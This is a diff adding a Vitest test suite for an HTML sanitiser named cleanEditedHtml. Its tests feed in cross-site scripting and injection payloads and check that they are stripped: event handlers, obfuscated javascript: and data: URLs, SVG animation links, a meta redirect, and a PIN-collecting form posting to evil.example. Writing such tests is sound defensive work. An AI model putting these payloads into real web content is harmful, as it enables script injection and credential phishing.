@@ -0,0 +1,83 @@
+// @vitest-environment jsdom
+import { describe, expect, it } from 'vitest';
+import { cleanEditedHtml } from '@/lib/proposal-page-editing';
+
+describe('cleanEditedHtml', () => {
+  it('keeps formatted text, tables and links', () => {
+    const html =
+      '<h2>Summary</h2><p><strong>Bold</strong> and <a href="https://example.com">a link</a></p>' +
+      '<table><tbody><tr><td colspan="2" style="color: red">Cell</td></tr></tbody></table>';
+
+    expect(cleanEditedHtml(html)).toBe(html);
+  });
+
+  it('removes scripts and event handlers', () => {
+    const cleaned = cleanEditedHtml('<p onclick="steal()">Text</p><script>steal()</script>');
+
+    expect(cleaned).toBe('<p>Text</p>');
+  });
+
+  it("doesn't run handlers while cleaning", () => {
+    let ran = false;
+    (window as unknown as { markRan: () => void }).markRan = () => {
+      ran = true;
+    };
+
+    const cleaned = cleanEditedHtml('<img src="x" onerror="markRan()">');
+
+    expect(cleaned).toBe('<img src="x">');
+    expect(ran).toBe(false);
+  });
+
+  it('removes redirects, base URLs, stylesheets and styles', () => {
+    const cleaned = cleanEditedHtml(
+      '<meta http-equiv="refresh" content="0;url=https://evil.example">' +
+        '<base href="https://evil.example/">' +
+        '<link rel="stylesheet" href="https://evil.example/style.css">' +
+        '<style>body { display: none }</style>' +
+        '<p>Text</p>'
+    );
+
+    expect(cleaned).toBe('<p>Text</p>');
+  });
+
+  it('unwraps forms and drops their controls', () => {
+    const cleaned = cleanEditedHtml(
+      '<form action="https://evil.example/collect"><p>Enter your PIN</p><input name="pin"><button>Send</button></form>'
+    );
+
+    expect(cleaned).toBe('<p>Enter your PIN</p>');
+  });
+
+  it('removes SVG animation that sets a link', () => {
+    const cleaned = cleanEditedHtml(
+      '<svg><a><set attributeName="href" to="javascript:alert(1)"></set>' +
+        '<animate attributeName="href" values="javascript:alert(1)"></animate><text>Click</text></a></svg>'
+    );
+
+    expect(cleaned).not.toMatch(/set|animate|javascript/i);
+  });
+
+  it('removes javascript: and data: URLs, including obfuscated ones', () => {
+    const cleaned = cleanEditedHtml(
+      '<a href="java\tscript:alert(1)">One</a><a href=" JAVASCRIPT:alert(1)">Two</a>' +
+        '<img src="data:image/svg+xml,<svg onload=alert(1)>"><a href="mailto:advisor@example.com">Three</a>'
+    );
+
+    expect(cleaned).toBe('<a>One</a><a>Two</a><img><a href="mailto:advisor@example.com">Three</a>');
+  });
+
+  it('removes inline styles that load URLs', () => {
+    const cleaned = cleanEditedHtml('<div style="background: url(https://evil.example/track)">Text</div>');
+
+    expect(cleaned).toBe('<div>Text</div>');
+  });
+
+  it('removes frames, objects and comments', () => {
+    const cleaned = cleanEditedHtml(
+      '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><!-- note --><p>Text</p>'
+    );
+
+    expect(cleaned).toBe('<p>Text</p>');
+  });
+});